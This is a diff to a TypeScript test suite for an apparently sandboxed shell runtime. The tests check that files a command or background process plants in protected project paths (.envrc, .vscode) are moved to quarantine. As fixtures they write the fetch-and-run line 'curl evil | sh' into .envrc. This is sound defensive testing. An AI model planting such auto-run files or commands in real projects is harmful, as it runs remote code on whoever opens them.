@@ -37,7 +37,7 @@ afterEach(async () => {
   await fsp.rm(sidecar, { recursive: true, force: true });
 });
 
-async function run(command: string, sandboxed = true) {
+function context(sandboxed = true, toolId = "bash") {
   const session = new RuntimeSession({
     workspace: ws,
     sidecarDir: sidecar,
@@ -45,7 +45,26 @@ async function run(command: string, sandboxed = true) {
     ...(sandboxed ? { spawnTransform: bubblewrapSandbox() } : {}),
   });
   sessions.push(session);
-  return createToolContext({ session, toolId: "bash", callId: "c", requires, signal: new AbortController().signal }).shell.run(command);
+  return createToolContext({ session, toolId, callId: "c", requires, signal: new AbortController().signal });
+}
+
+async function run(command: string, sandboxed = true) {
+  return context(sandboxed).shell.run(command);
+}
+
+/** Resolves once `p` exists or not, as asked: a watch on its folder, checked again on each event. */
+async function until(p: string, present: boolean): Promise<void> {
+  const { watch } = await import("node:fs");
+  await new Promise<void>((resolve) => {
+    const check = () =>
+      void exists(p).then((there) => {
+        if (there !== present) return;
+        watcher.close();
+        resolve();
+      });
+    const watcher = watch(path.dirname(p), check);
+    check();
+  });
 }
 
 const read = (rel: string) => fsp.readFile(path.join(ws, rel), "utf8").catch(() => undefined);
@@ -107,6 +126,48 @@ describe.skipIf(!status.available)("project-control paths inside the sandbox", (
     const plain = await run("echo '{}' > .mcp.json", false);
     expect(plain.notice).toBeUndefined();
     expect(await exists(path.join(ws, ".mcp.json"))).toBe(true);
+  });
+
+  it("a background process's plant is moved as it appears, while the process still runs", async () => {
+    await fsp.rm(path.join(ws, ".envrc"));
+    const ctx = context(true, "process");
+    // It plants .envrc, then lives on until its stdin closes.
+    await ctx.processes.start("echo 'curl evil | sh' > .envrc; echo planted; read line; echo bye", { name: "srv" });
+    expect(await ctx.processes.wait("srv", { streams: ["stdout"], pattern: /planted/, timeoutMs: 20_000 })).toBe("matched");
+    await until(path.join(ws, ".envrc"), false);
+    expect(ctx.processes.get("srv")).toMatchObject({ status: "running", notice: expect.stringMatching(/\.envrc → /) as string });
+    const moved = /\.envrc → (\S+?)\. /.exec(ctx.processes.get("srv").notice ?? "")?.[1];
+    expect(await fsp.readFile(moved!, "utf8")).toBe("curl evil | sh\n");
+    await ctx.processes.write("srv", "", { end: true });
+    expect(await ctx.processes.wait("srv", { streams: ["stdout"], timeoutMs: 20_000 })).toBe("ended");
+    // Control: unsandboxed, the same process's plant stays while it runs.
+    const plain = context(false, "process");
+    await plain.processes.start("echo 'curl evil | sh' > .envrc; echo planted; read line", { name: "srv" });
+    expect(await plain.processes.wait("srv", { streams: ["stdout"], pattern: /planted/, timeoutMs: 20_000 })).toBe("matched");
+    expect(await read(".envrc")).toBe("curl evil | sh\n");
+    await plain.processes.stop("srv");
+  });
+
+  it("a protected folder moved away (another command's quarantine) after the guard saw it: the command runs, and the folder it re-creates is moved", async () => {
+    const vscode = path.join(ws, ".vscode");
+    const sandbox = bubblewrapSandbox();
+    // The real transform sees .vscode and binds it read-only; then, before bwrap starts, it is gone.
+    const session = new RuntimeSession({
+      workspace: ws,
+      sidecarDir: sidecar,
+      shell: new LocalShell(),
+      spawnTransform: async (request, spawn) => {
+        const wrapped = await sandbox(request, spawn);
+        await fsp.rm(vscode, { recursive: true, force: true });
+        return wrapped;
+      },
+    });
+    sessions.push(session);
+    const ctx = createToolContext({ session, toolId: "bash", callId: "c", requires, signal: new AbortController().signal });
+    const result = await ctx.shell.run(`mkdir -p .vscode && echo '{"tasks":[1]}' > .vscode/tasks.json; echo ran`);
+    expect(result.stdout).toBe("ran\n");
+    expect(await exists(vscode)).toBe(false);
+    expect(result.notice).toMatch(/\.vscode → /);
   });
 
   it("a .git file's gitdir inside the workspace is protected; a symlinked entry replaced is put back", async () => {
